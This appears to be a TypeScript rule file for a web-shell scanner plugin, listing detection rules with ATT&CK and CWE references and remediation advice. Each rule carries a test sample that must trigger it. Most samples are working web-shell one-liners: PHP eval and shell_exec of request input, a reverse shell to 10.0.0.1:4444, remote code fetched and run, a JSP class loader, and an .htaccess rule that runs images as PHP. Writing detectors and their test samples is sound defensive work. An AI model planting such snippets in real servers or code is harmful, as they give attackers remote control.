import type { Rule } from '@veinmind/sdk'

/** A file with a name, as text. */
export interface Sample {
  readonly path: string
  readonly text: string
}

/** A rule with a file that must break it and one that must not, which a test holds it to. */
export interface WebshellRule extends Rule {
  /** Absent where no file can break it: a service does. */
  readonly matches?: Sample
  readonly misses?: Sample
}

const REMOVE = {
  en: 'Remove the file, look in the logs of the web server for who called it, and find out how it came into the image or container: whatever could be read or changed from there is no longer to be trusted.',
  zh: '删除该文件，在 Web 服务器日志中查明谁访问过它，并查清它如何进入镜像或容器：从那里可读取或修改的一切都不再可信。',
}

const SHELL = ['T1505.003']
const SHELL_REFERENCE = 'https://attack.mitre.org/techniques/T1505/003/'
const cwe = (number: number): string => `https://cwe.mitre.org/data/definitions/${number}.html`

/** What the plugin reports. */
export const RULES: readonly WebshellRule[] = [
  {
    id: 'WEBSHELL-001',
    title: { en: 'Runs code that a request brings', zh: '执行请求带来的代码' },
    severity: 'critical',
    confidence: 'high',
    attack: [...SHELL, 'T1059'],
    references: [SHELL_REFERENCE, cwe(94)],
    remediation: REMOVE,
    matches: { path: '/var/www/a.php', text: "<?php @eval($_POST['a']);" },
    misses: { path: '/var/www/a.php', text: "<?php eval('return 1;'); echo $_POST['a'];" },
  },
  {
    id: 'WEBSHELL-002',
    title: { en: 'Runs commands that a request brings', zh: '执行请求带来的命令' },
    severity: 'critical',
    confidence: 'high',
    attack: [...SHELL, 'T1059.004'],
    references: [SHELL_REFERENCE, cwe(78)],
    remediation: REMOVE,
    matches: { path: '/var/www/a.php', text: "<?php $c = $_GET['c']; echo shell_exec($c . ' 2>&1');" },
    misses: { path: '/var/www/a.php', text: "<?php echo shell_exec('uptime'), htmlspecialchars($_GET['c']);" },
  },
  {
    id: 'WEBSHELL-003',
    title: { en: 'Calls the function that a request names', zh: '调用请求指定的函数' },
    severity: 'high',
    confidence: 'high',
    attack: [...SHELL, 'T1059'],
    references: [SHELL_REFERENCE, cwe(470)],
    remediation: REMOVE,
    matches: { path: '/var/www/a.php', text: "<?php $_GET['f']($_POST['x']);" },
    misses: { path: '/var/www/a.php', text: "<?php $f = 'trim'; echo $f($_POST['x']);" },
  },
  {
    id: 'WEBSHELL-004',
    title: { en: 'Runs the file that a request names', zh: '执行请求指定的文件' },
    severity: 'medium',
    confidence: 'high',
    attack: [...SHELL, 'T1059'],
    references: [SHELL_REFERENCE, cwe(98)],
    remediation: REMOVE,
    matches: { path: '/var/www/a.php', text: "<?php include $_GET['page'];" },
    misses: { path: '/var/www/a.php', text: "<?php include __DIR__ . '/header.php'; echo $_GET['page'];" },
  },
  {
    id: 'WEBSHELL-005',
    title: {
      en: 'Writes what a request brings to a file that it names, or that the server runs',
      zh: '将请求带来的内容写入其指定的、或服务器会执行的文件',
    },
    severity: 'high',
    confidence: 'high',
    attack: [...SHELL, 'T1105'],
    references: [SHELL_REFERENCE, cwe(434)],
    remediation: REMOVE,
    matches: { path: '/var/www/a.php', text: "<?php file_put_contents($_GET['name'], $_POST['data']);" },
    misses: { path: '/var/www/a.php', text: "<?php file_put_contents('/var/log/app.log', 'visited');" },
  },
  {
    id: 'WEBSHELL-006',
    title: { en: 'Runs code that was hidden', zh: '执行被隐藏的代码' },
    severity: 'high',
    confidence: 'high',
    attack: [...SHELL, 'T1027', 'T1140'],
    references: [SHELL_REFERENCE, cwe(506)],
    remediation: REMOVE,
    matches: { path: '/var/www/a.php', text: "<?php eval(gzinflate(base64_decode(file_get_contents('/tmp/x'))));" },
    misses: { path: '/var/www/a.php', text: "<?php echo base64_decode('aGVsbG8=');" },
  },
  {
    id: 'WEBSHELL-007',
    title: { en: 'Runs code that it fetches from elsewhere', zh: '执行从别处获取的代码' },
    severity: 'high',
    confidence: 'high',
    attack: [...SHELL, 'T1105'],
    references: [SHELL_REFERENCE, cwe(494)],
    remediation: REMOVE,
    matches: { path: '/var/www/a.php', text: "<?php eval(file_get_contents('http://a.example/x.txt'));" },
    misses: { path: '/var/www/a.php', text: "<?php echo file_get_contents('http://a.example/x.txt');" },
  },
  {
    id: 'WEBSHELL-008',
    title: { en: 'Gives a shell to another machine', zh: '向其他机器提供 shell' },
    severity: 'critical',
    confidence: 'high',
    attack: [...SHELL, 'T1059.004', 'T1571'],
    references: [SHELL_REFERENCE, cwe(506)],
    remediation: REMOVE,
    matches: {
      path: '/var/www/a.php',
      text: "<?php $s = fsockopen('10.0.0.1', 4444); proc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $p);",
    },
    misses: { path: '/var/www/a.php', text: "<?php $s = fsockopen('10.0.0.1', 25); fwrite($s, 'QUIT');" },
  },
  {
    id: 'WEBSHELL-009',
    title: { en: 'Connects to where a request says: a tunnel', zh: '连接到请求指定的地址：隧道' },
    severity: 'high',
    confidence: 'high',
    attack: [...SHELL, 'T1090', 'T1572'],
    references: [SHELL_REFERENCE, cwe(918)],
    remediation: REMOVE,
    matches: {
      path: '/var/www/a.php',
      text: "<?php $s = fsockopen($_GET['host'], $_GET['port']); fwrite($s, file_get_contents('php://input')); echo fread($s, 512);",
    },
    misses: { path: '/var/www/a.php', text: "<?php $s = fsockopen('mail', 25); echo fread($s, 512);" },
  },
  {
    id: 'WEBSHELL-014',
    title: { en: 'Lets a request read, change and remove any file', zh: '允许请求读取、修改和删除任意文件' },
    severity: 'high',
    confidence: 'high',
    attack: [...SHELL, 'T1083', 'T1105'],
    references: [SHELL_REFERENCE, cwe(22)],
    remediation: REMOVE,
    matches: {
      path: '/var/www/a.php',
      text: "<?php $f = $_GET['f']; switch ($_GET['do']) { case 'r': readfile($f); break; case 'd': unlink($f); break; case 'l': print_r(scandir($f)); break; case 'm': rename($f, $_GET['to']); break; case 'c': chmod($f, 0777); }",
    },
    misses: {
      path: '/var/www/a.php',
      text: "<?php $f = basename($_GET['f']); readfile('/srv/files/public.txt'); echo $f;",
    },
  },
  {
    id: 'WEBSHELL-010',
    title: { en: 'Loads classes or machine code that a request brings', zh: '加载请求带来的类或机器码' },
    severity: 'critical',
    confidence: 'high',
    attack: [...SHELL, 'T1620'],
    references: [SHELL_REFERENCE, cwe(470)],
    remediation: REMOVE,
    matches: {
      path: '/opt/tomcat/webapps/a/x.jsp',
      text: '<%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% new U().g(request.getInputStream().readAllBytes()).newInstance(); %>',
    },
    misses: { path: '/opt/tomcat/webapps/a/x.jsp', text: '<% out.print(request.getParameter("a")); %>' },
  },
  {
    id: 'WEBSHELL-011',
    title: { en: 'Registers a filter, servlet or listener while it runs', zh: '运行时注册过滤器、Servlet 或监听器' },
    severity: 'critical',
    confidence: 'high',
    attack: [...SHELL],
    references: [SHELL_REFERENCE, cwe(506)],
    remediation: REMOVE,
    matches: {
      path: '/opt/tomcat/webapps/a/x.jsp',
      text: '<% FilterDef d = new FilterDef(); d.setFilter(f); standardContext.addFilterDef(d); String c = request.getParameter("c"); %>',
    },
    misses: {
      path: '/opt/tomcat/webapps/a/x.jsp',
      text: '<%@ page import="java.util.List" %><% out.print(List.of(1)); %>',
    },
  },
  {
    id: 'WEBSHELL-012',
    title: { en: 'Makes the server run what is no script', zh: '让服务器执行非脚本文件' },
    severity: 'high',
    confidence: 'high',
    attack: [...SHELL],
    references: [SHELL_REFERENCE, cwe(434)],
    remediation: REMOVE,
    matches: { path: '/var/www/html/uploads/.htaccess', text: 'AddType application/x-httpd-php .jpg' },
    misses: { path: '/var/www/html/.htaccess', text: 'AddType application/x-httpd-php .php' },
  },
  {
    id: 'WEBSHELL-015',
    title: { en: 'A service takes it for a web shell', zh: '服务判定为 Webshell' },
    severity: 'high',
    confidence: 'high',
    attack: [...SHELL],
    references: [SHELL_REFERENCE, cwe(506)],
    remediation: REMOVE,
  },
]
